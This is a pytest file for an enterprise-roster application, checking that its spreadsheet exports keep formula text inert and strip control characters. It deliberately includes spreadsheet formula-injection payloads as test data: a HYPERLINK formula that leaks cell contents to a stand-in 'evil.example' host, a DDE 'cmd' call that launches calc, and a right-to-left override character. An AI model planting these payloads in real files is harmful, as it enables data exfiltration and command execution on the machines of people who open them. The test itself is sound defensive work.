"""Defect 8: hostile text in every spreadsheet the program writes stays text, and never breaks it.

Formula text (``=HYPERLINK(…)``, a DDE ``=cmd|…``, ``+``/``-``/``@`` starts) must not come out as a
live formula; control characters (imported from a roster, or stored before import cleaned them)
must not make an export fail. Each export is opened as a zip and its sheet XML searched for
``<f>`` (a formula element), and read back with openpyxl.
"""

from __future__ import annotations

import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
from sqlalchemy import select

from app.district.export import workbook_bytes
from app.district.metrics import MergedEnterprise, StationRow
from app.reports import periods
from app.reports.figures import compute_figures
from app.reports.xlsx import write_xlsx
from app.roster.export import export_enterprises, export_errors
from app.roster.importer import import_file
from app.roster.normalize import clean_text
from app.store.models import Enterprise
from tests.roster_files import code

FORMULAS = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "＝1+1",  # a full-width equals sign, which Excel also takes for a formula when typed
]
#: how the roster file spells control characters (the OOXML escape Excel itself writes)
CONTROL_NAME_IN_FILE = "福州_x0001_控制_x007F_字符\u202e公司"
CONTROL_NAME = "福州\x01控制\x7f字符\u202e公司"


def formulas_in(path_or_bytes) -> list[str]:
    with zipfile.ZipFile(path_or_bytes) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        return [m for n in sheets for m in re.findall(rb"<f[ >].*?</f>", z.read(n))]


def all_values(path_or_bytes) -> list:
    wb = openpyxl.load_workbook(path_or_bytes)
    return [v for ws in wb for row in ws.iter_rows(values_only=True) for v in row if v is not None]


def hostile_roster(path: Path) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["统一社会信用代码", "企业名称", "法定代表人", "联系电话", "所属街道", "职工人数"])
    for i, text in enumerate(FORMULAS, start=1):
        ws.append([code(i), text, text, None, "鼓东街道", 10])
    ws.append([code(50), CONTROL_NAME_IN_FILE, "张_x0007_三", None, "鼓东街道", 5])
    ws.append(['=HYPERLINK("x")', "=1+1", "@A1", "=2", "-火星", "=3"])  # an invalid row
    # openpyxl would write the formula texts as formulas: store them as text in the source file
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    wb.save(path)
    return path


def test_roster_import_cleans_control_characters(store, tmp_path):
    _plan, result = import_file(store, hostile_roster(tmp_path / "恶意名录.xlsx"))
    assert result.new == len(FORMULAS) + 1
    with store.read() as s:
        names = set(s.scalars(select(Enterprise.name)))
    assert "福州控制字符公司" in names
    assert not any(re.search(r"[\x00-\x1f\x7f\u202e]", n) for n in names)
    assert clean_text("甲\x00乙\u2066丙\ud800") == "甲乙丙"


def test_roster_exports_write_text_not_formulas(store, tmp_path):
    plan, _result = import_file(store, hostile_roster(tmp_path / "恶意名录.xlsx"))
    # a name stored before import cleaned control characters must not break the export either
    with store.unit_of_work() as s:
        s.add(Enterprise(name=CONTROL_NAME, credit_code=code(60), legal_rep="=1+2"))
    out, count = export_enterprises(store, None, tmp_path / "导出.xlsx")
    assert count == len(FORMULAS) + 2
    assert formulas_in(out) == []
    values = all_values(out)
    for text in FORMULAS:
        assert text in values  # unchanged text: the export imports back as it was
    assert "福州控制字符公司" in values
    ws = openpyxl.load_workbook(out).active
    risky = [c for row in ws.iter_rows() for c in row if str(c.value or "").startswith("=")]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)

    errors = export_errors(plan, None, tmp_path / "无效行.xlsx")
    assert formulas_in(errors) == []
    assert "=1+1" in all_values(errors)


def test_statistical_report_keeps_hostile_names_as_text(store, tmp_path):
    store.update_station_profile(organisation_name="=HYPERLINK(\"x\")\x01调委会", address=None,
                                 phone=None)  # fmt: skip
    figures = compute_figures(store, periods.month(2026, 7))
    figures.by_type[0].name = "=cmd|' /C calc'!A0"
    out = write_xlsx(figures, tmp_path / "报表.xlsx")
    assert formulas_in(out) == []
    values = all_values(out)
    assert "=cmd|' /C calc'!A0" in values
    assert any("调委会" in str(v) and "\x01" not in str(v) for v in values)


def test_district_workbook_keeps_hostile_values_as_text():
    rows = [
        StationRow(code="GUDONG", name="=HYPERLINK(\"x\")", kind="street", cases=1,
                   recovered=Decimal("10.00"), last_sync_at=datetime.now(UTC)),
    ]  # fmt: skip
    merged = [
        MergedEnterprise(
            credit_code="=1+1",
            merged={"name": "=cmd|' /C calc'!A0"},
            stations={"GUDONG": "甲\x02", "GUXI": "@乙"},
            conflicts={"name": {"GUDONG": "=cmd|' /C calc'!A0", "GUXI": "+乙\x1f"}},
        )
    ]
    data = workbook_bytes(date.today().year, rows, merged)
    import io

    assert formulas_in(io.BytesIO(data)) == []
    values = all_values(io.BytesIO(data))
    assert '=HYPERLINK("x")' in values and "=1+1" in values
